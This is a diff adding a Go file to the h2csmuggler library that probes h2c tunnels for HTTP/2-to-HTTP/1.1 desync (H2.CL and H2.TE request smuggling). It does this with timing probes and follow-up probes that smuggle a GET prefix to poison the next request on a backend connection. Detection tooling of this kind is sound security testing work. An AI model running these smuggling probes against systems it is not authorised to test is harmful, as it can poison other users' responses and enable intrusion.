@@ -0,0 +1,378 @@
+package h2csmuggler
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"io"
+	"io/ioutil"
+	"net/http"
+	"net/url"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/assetnote/h2csmuggler/http2/hpack"
+	"github.com/pkg/errors"
+	log "github.com/sirupsen/logrus"
+)
+
+// DesyncTechnique is a way of framing a request over http2 which a hop that downgrades to
+// HTTP/1.1 may disagree with, about where the request ends
+type DesyncTechnique string
+
+const (
+	// DesyncCL sends a content-length header which does not match the length of the DATA frames
+	DesyncCL DesyncTechnique = "H2.CL"
+
+	// DesyncTE sends a transfer-encoding: chunked header, with a chunked body in the DATA frames
+	DesyncTE DesyncTechnique = "H2.TE"
+)
+
+// DesyncTechniques are the techniques tried by ProbeDesync by default
+var DesyncTechniques = []DesyncTechnique{DesyncCL, DesyncTE}
+
+// ParseDesyncTechnique will parse a technique by name e.g. H2.CL. Names are case insensitive
+func ParseDesyncTechnique(s string) (DesyncTechnique, error) {
+	for _, t := range DesyncTechniques {
+		if strings.EqualFold(s, string(t)) {
+			return t, nil
+		}
+	}
+	return "", errors.Errorf("h2csmuggler: unknown desync technique %q", s)
+}
+
+// DefaultDesyncTimeout is how long a desync probe may take before the hop behind the tunnel
+// is considered to be waiting for the rest of the request
+const DefaultDesyncTimeout = 5 * time.Second
+
+// DesyncOption configures ProbeDesync
+type DesyncOption func(*DesyncOptions)
+
+// DesyncOptions configure how the desync probes are sent
+type DesyncOptions struct {
+	Method            string        // the method of the probes. Defaults to POST
+	Timeout           time.Duration // see DefaultDesyncTimeout
+	ConnectionOptions []ConnectionOption
+}
+
+// DesyncMethod will send the probes with method instead of POST
+func DesyncMethod(method string) DesyncOption {
+	return func(o *DesyncOptions) {
+		o.Method = method
+	}
+}
+
+// DesyncTimeout will wait d for the response to a timing probe
+func DesyncTimeout(d time.Duration) DesyncOption {
+	return func(o *DesyncOptions) {
+		o.Timeout = d
+	}
+}
+
+// DesyncConnectionOptions will apply opts to the connections created for the probes
+func DesyncConnectionOptions(opts ...ConnectionOption) DesyncOption {
+	return func(o *DesyncOptions) {
+		o.ConnectionOptions = append(o.ConnectionOptions, opts...)
+	}
+}
+
+func newDesyncOptions(opts ...DesyncOption) DesyncOptions {
+	o := DesyncOptions{
+		Method:  http.MethodPost,
+		Timeout: DefaultDesyncTimeout,
+	}
+	for _, opt := range opts {
+		opt(&o)
+	}
+	return o
+}
+
+// DesyncResult is the outcome of probing a target with a single technique
+type DesyncResult struct {
+	Technique DesyncTechnique `json:"technique"`
+
+	// the response to a request with the probes' method and a correctly framed body. The
+	// timing probe only counts as timed out if this returns within half the timeout
+	BaselineStatus   int           `json:"baseline_status,omitempty"` // zero if there was no response
+	BaselineDuration time.Duration `json:"baseline_duration"`
+
+	// the timing probe frames less body than it declares. A hop which trusts the declared
+	// length waits for the rest, so the probe times out
+	TimingStatus   int           `json:"timing_status,omitempty"` // zero if there was no response
+	TimingDuration time.Duration `json:"timing_duration"`
+	TimedOut       bool          `json:"timed_out"`
+
+	// the follow-up probe frames more body than it declares, the excess being the start of a
+	// GET of a random path. A hop which trusts the declared length prefixes it to the next
+	// request on its connection, so the following GET of the target gets the response to the
+	// random path. The target is only poisoned if a GET of the target before the probe, and
+	// another after the follow-up, both get a different response to the random path
+	TargetStatus   int  `json:"target_status,omitempty"`
+	SmuggledStatus int  `json:"smuggled_status,omitempty"`
+	FollowUpStatus int  `json:"follow_up_status,omitempty"`
+	ControlStatus  int  `json:"control_status,omitempty"`
+	Poisoned       bool `json:"poisoned"`
+
+	// Desyncable is true if either probe indicated the hop disagrees with the tunnel about
+	// where the request ends
+	Desyncable bool `json:"desyncable"`
+
+	Err error `json:"-"`
+}
+
+// ProbeDesync will check whether the hop behind the h2c tunnel to target downgrades requests
+// to HTTP/1.1 in a way which can be desynchronised. Each technique sends a timing probe and a
+// follow-up probe, each on a fresh connection created with the options. The probes are sent in
+// raw headers mode, so the framing headers reach the backend as is. If techniques is nil,
+// DesyncTechniques is used. An error is only returned if ctx is done
+func ProbeDesync(ctx context.Context, target string, techniques []DesyncTechnique, opts ...DesyncOption) ([]DesyncResult, error) {
+	if techniques == nil {
+		techniques = DesyncTechniques
+	}
+	o := newDesyncOptions(opts...)
+
+	ret := make([]DesyncResult, 0, len(techniques))
+	for _, t := range techniques {
+		r := probeDesync(ctx, target, t, o)
+		ret = append(ret, r)
+		if ctx.Err() != nil {
+			return ret, ctx.Err()
+		}
+	}
+	return ret, nil
+}
+
+// probeDesync will send the timing and follow-up probes for the technique. The timing probe
+// may leave the backend connection waiting, so each probe is sent over a new tunnel
+func probeDesync(ctx context.Context, target string, t DesyncTechnique, o DesyncOptions) (r DesyncResult) {
+	r.Technique = t
+	if t != DesyncCL && t != DesyncTE {
+		r.Err = errors.Errorf("h2csmuggler: unknown desync technique %q", t)
+		return r
+	}
+	if r.Err = probeTiming(ctx, target, o, &r); r.Err != nil {
+		return r
+	}
+	if r.Err = probeFollowUp(ctx, target, o, &r); r.Err != nil {
+		return r
+	}
+	r.Desyncable = r.TimedOut || r.Poisoned
+	return r
+}
+
+// probeTiming will send a correctly framed request as the baseline, then the timing probe
+func probeTiming(ctx context.Context, target string, o DesyncOptions, r *DesyncResult) error {
+	c, err := openDesyncConn(ctx, target, o)
+	if err != nil {
+		return errors.Wrap(err, "upgrade")
+	}
+	defer c.Close()
+
+	l := log.WithField("target", target).WithField("technique", r.Technique)
+	req, err := timingBaseline(ctx, o.Method, target)
+	if err != nil {
+		return err
+	}
+	start := time.Now()
+	r.BaselineStatus, err = desyncDo(c, req, o.Timeout)
+	r.BaselineDuration = time.Since(start)
+	if ctx.Err() != nil {
+		return ctx.Err()
+	}
+	if isDesyncTimeout(err) {
+		// the target is too slow to tell a timing probe apart
+		l.WithError(err).Debugf("timing baseline timed out")
+		return nil
+	}
+	if err != nil {
+		return errors.Wrap(err, "baseline")
+	}
+
+	req, err = timingProbe(ctx, r.Technique, o.Method, target)
+	if err != nil {
+		return err
+	}
+	start = time.Now()
+	r.TimingStatus, err = desyncDo(c, req, o.Timeout)
+	r.TimingDuration = time.Since(start)
+	if ctx.Err() != nil {
+		return ctx.Err()
+	}
+	r.TimedOut = isDesyncTimeout(err) && r.BaselineDuration < o.Timeout/2
+	if err != nil && !r.TimedOut {
+		l.WithError(err).Debugf("timing probe failed")
+	}
+	return nil
+}
+
+// probeFollowUp will GET the target and the smuggled path, send the follow-up probe, then GET
+// the target twice to see if the first was poisoned
+func probeFollowUp(ctx context.Context, target string, o DesyncOptions, r *DesyncResult) error {
+	c, err := openDesyncConn(ctx, target, o)
+	if err != nil {
+		return errors.Wrap(err, "upgrade")
+	}
+	defer c.Close()
+
+	l := log.WithField("target", target).WithField("technique", r.Technique)
+	path, err := smuggledPath()
+	if err != nil {
+		return err
+	}
+	smuggled, err := withPath(target, path)
+	if err != nil {
+		return err
+	}
+	if r.TargetStatus, err = desyncGet(ctx, c, target, o.Timeout); err != nil {
+		return errors.Wrap(err, "target")
+	}
+	if r.SmuggledStatus, err = desyncGet(ctx, c, smuggled, o.Timeout); err != nil {
+		return errors.Wrap(err, "smuggled path")
+	}
+	if r.SmuggledStatus == r.TargetStatus {
+		// a poisoned response couldn't be told apart
+		l.WithField("status", r.TargetStatus).Debugf("smuggled path has the same response as the target")
+		return nil
+	}
+
+	req, err := followUpProbe(ctx, r.Technique, o.Method, target, path)
+	if err != nil {
+		return err
+	}
+	if _, err := desyncDo(c, req, o.Timeout); err != nil {
+		l.WithError(err).Debugf("follow-up probe failed")
+	}
+	r.FollowUpStatus, err = desyncGet(ctx, c, target, o.Timeout)
+	if ctx.Err() != nil {
+		return ctx.Err()
+	}
+	if err != nil {
+		l.WithError(err).Debugf("follow-up request failed")
+		return nil
+	}
+	if r.FollowUpStatus != r.SmuggledStatus {
+		return nil
+	}
+
+	// the target might have changed rather than been poisoned
+	r.ControlStatus, err = desyncGet(ctx, c, target, o.Timeout)
+	if ctx.Err() != nil {
+		return ctx.Err()
+	}
+	if err != nil {
+		l.WithError(err).Debugf("control request failed")
+		return nil
+	}
+	r.Poisoned = r.ControlStatus == r.TargetStatus
+	return nil
+}
+
+// openDesyncConn will create a connection to target, upgraded with a GET of the target
+func openDesyncConn(ctx context.Context, target string, o DesyncOptions) (*Conn, error) {
+	c, err := NewConn(target, o.ConnectionOptions...)
+	if err != nil {
+		return nil, err
+	}
+	if _, err := desyncGet(ctx, c, target, 0); err != nil {
+		c.Close()
+		return nil, err
+	}
+	return c, nil
+}
+
+// desyncGet will GET the target over c, and return the response status
+func desyncGet(ctx context.Context, c *Conn, target string, timeout time.Duration) (int, error) {
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, target, nil)
+	if err != nil {
+		return 0, err
+	}
+	return desyncDo(c, req, timeout)
+}
+
+// desyncDo will send req over c and read the response, waiting at most timeout if non-zero.
+// The request context carries the raw headers, so it is used rather than replaced
+func desyncDo(c *Conn, req *http.Request, timeout time.Duration) (int, error) {
+	if timeout != 0 {
+		ctx, cancel := context.WithTimeout(req.Context(), timeout)
+		defer cancel()
+		req = req.WithContext(ctx)
+	}
+	res, err := c.Do(req)
+	if err != nil {
+		return 0, err
+	}
+	defer res.Body.Close()
+	if _, err := io.Copy(ioutil.Discard, res.Body); err != nil {
+		return res.StatusCode, err
+	}
+	return res.StatusCode, nil
+}
+
+// isDesyncTimeout returns whether err is the probe waiting for a response until its timeout
+func isDesyncTimeout(err error) bool {
+	return errors.Is(err, context.DeadlineExceeded) || errors.Is(err, ErrResponseTimeout)
+}
+
+// timingBaseline returns a request which declares the same length of body that it sends
+func timingBaseline(ctx context.Context, method string, target string) (*http.Request, error) {
+	body := []byte("Z")
+	return desyncRequest(ctx, method, target, body, hpack.HeaderField{Name: "content-length", Value: strconv.Itoa(len(body))})
+}
+
+// timingProbe returns a request which declares more body than it sends
+func timingProbe(ctx context.Context, t DesyncTechnique, method string, target string) (*http.Request, error) {
+	if t == DesyncTE {
+		// the terminating chunk is never sent
+		return desyncRequest(ctx, method, target, []byte("1\r\nZ\r\n"), hpack.HeaderField{Name: "transfer-encoding", Value: "chunked"})
+	}
+	body := []byte("Z")
+	return desyncRequest(ctx, method, target, body, hpack.HeaderField{Name: "content-length", Value: strconv.Itoa(len(body) + 5)})
+}
+
+// smuggledPath returns a random path for the follow-up probe to smuggle
+func smuggledPath() (string, error) {
+	nonce := make([]byte, 4)
+	if _, err := rand.Read(nonce); err != nil {
+		return "", err
+	}
+	return "/h2csmuggler-desync-" + hex.EncodeToString(nonce), nil
+}
+
+// withPath returns target with its path replaced by path
+func withPath(target string, path string) (string, error) {
+	u, err := url.Parse(target)
+	if err != nil {
+		return "", err
+	}
+	u.Path = path
+	u.RawPath = ""
+	u.RawQuery = ""
+	u.Fragment = ""
+	return u.String(), nil
+}
+
+// followUpProbe returns a request which sends the start of a GET of path after the end of its
+// declared body
+func followUpProbe(ctx context.Context, t DesyncTechnique, method string, target string, path string) (*http.Request, error) {
+	prefix := "GET " + path + " HTTP/1.1\r\nX-Ignore: X"
+
+	if t == DesyncTE {
+		return desyncRequest(ctx, method, target, []byte("0\r\n\r\n"+prefix), hpack.HeaderField{Name: "transfer-encoding", Value: "chunked"})
+	}
+	return desyncRequest(ctx, method, target, []byte(prefix), hpack.HeaderField{Name: "content-length", Value: "0"})
+}
+
+// desyncRequest returns a request to target in raw headers mode, with the framing header
+// after the request's header fields and body in the DATA frames
+func desyncRequest(ctx context.Context, method string, target string, body []byte, framing hpack.HeaderField) (*http.Request, error) {
+	req, err := http.NewRequestWithContext(ctx, method, target, nil)
+	if err != nil {
+		return nil, err
+	}
+	fields := append(HeaderFields(req), framing)
+	req.Body = ioutil.NopCloser(bytes.NewReader(body))
+	req.ContentLength = int64(len(body))
+	return WithRawHeaders(req, fields...), nil
+}